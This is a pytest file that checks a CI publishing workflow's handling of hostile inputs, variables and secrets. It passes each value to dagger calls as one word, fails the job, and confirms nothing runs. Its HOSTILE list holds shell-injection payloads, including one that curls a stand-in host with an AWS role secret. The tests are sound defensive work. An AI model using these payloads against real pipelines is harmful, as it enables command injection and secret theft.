"""Inputs of a workflow with shell in them: they arrive as one word each, and are refused."""

from __future__ import annotations

from collections.abc import Generator
from pathlib import Path

import pytest
from actions_runner import JobRan
from dagger_client import needs_schema
from github import GitHub
from github_commands import ONLY_RECORD
from publish_examples import dist
from publishing import Publishing
from releasing import NAME, fork

pytestmark = needs_schema

HOSTILE = [
    '"; touch pwned; curl http://127.0.0.1:9/?$AWS_ROLE_TO_ASSUME #',
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    "a\ntouch pwned\nb",
    "a && touch pwned || touch pwned",
    "${{ github.token }}",
    "*",
]
OPTIONS = {
    "distribution": ("lock", "--distribution"),
    "architecture": ("build", "--architecture"),
    "upstream-repo": ("lock", "--upstream-repo"),
    "upstream-ref": ("lock", "--upstream-ref"),
    "aws-region": ("publish", "--regions"),
    "release-group": ("publish", "--release-group"),
}


@pytest.fixture
def forge(publishing: Publishing, tmp_path: Path) -> Generator[GitHub]:
    """A fork with layers, as the job that builds keeps them."""
    with fork(tmp_path / "github", publishing.aws) as made:
        dist(made.folder / "layers" / "dist")
        made.runner.artifacts["1"] = made.folder / "layers"
        yield made


def ran(forge: GitHub, job: str, inputs: dict[str, str]) -> JobRan:
    """Run a job with these inputs, whichever choices there are."""
    build = JobRan(workspace=forge.folder, outputs={"artifact-id": "1"})
    return forge.runner.run(NAME, inputs, only=(job,), after={"build": build})[job]


def only_record(forge: GitHub) -> None:
    forge.runner.environment = {**forge.runner.environment, ONLY_RECORD: "1"}


def values_of(forge: GitHub, function: str, option: str) -> list[str]:
    """What an option was given, in each call of a function."""
    calls = forge.calls_of("dagger", "call", function)
    return [call[call.index(option) + 1] for call in calls]


@pytest.mark.parametrize("value", HOSTILE)
def test_whatever_an_input_says_it_is_one_word_and_nothing_of_it_runs(
    forge: GitHub, value: str
) -> None:
    only_record(forge)
    for job in ("build", "publish"):
        ran(forge, job, dict.fromkeys(OPTIONS, value))
    for function, option in OPTIONS.values():
        assert values_of(forge, function, option) == [value]
    plain = dict.fromkeys(OPTIONS, "plain")
    for job in ("build", "publish"):
        ran(forge, job, plain)
    for function in ("lock", "build", "publish"):
        hostile, usual = forge.calls_of("dagger", "call", function)
        assert len(hostile) == len(usual)
    assert list(forge.folder.rglob("pwned")) == []


@pytest.mark.parametrize("name", OPTIONS)
def test_ocelot_refuses_it(forge: GitHub, publishing: Publishing, name: str) -> None:
    job = "publish" if OPTIONS[name][0] == "publish" else "build"
    usual = {"distribution": "minimal", "upstream-repo": "sample"}
    done = ran(forge, job, {**usual, name: HOSTILE[0]})
    assert done.result == "failure"
    assert "Error: " in done.log
    assert publishing.writes() == []
    assert list(forge.folder.rglob("pwned")) == []


def test_variables_and_secrets_are_words_too(forge: GitHub) -> None:
    only_record(forge)
    value = HOSTILE[0]
    forge.runner.variables = dict.fromkeys(
        ("LAYER_NAME", "BUCKET_NAME", "DYNAMODB_TABLE_REGION"), value
    )
    forge.runner.secrets = dict.fromkeys(("AWS_ROLE_TO_ASSUME", "DYNAMODB_TABLE_NAME"), value)
    ran(forge, "publish", {})
    for option in ("--layer-name", "--bucket", "--table-region", "--role-arn", "--table"):
        assert values_of(forge, "publish", option) == [value]
    assert list(forge.folder.rglob("pwned")) == []
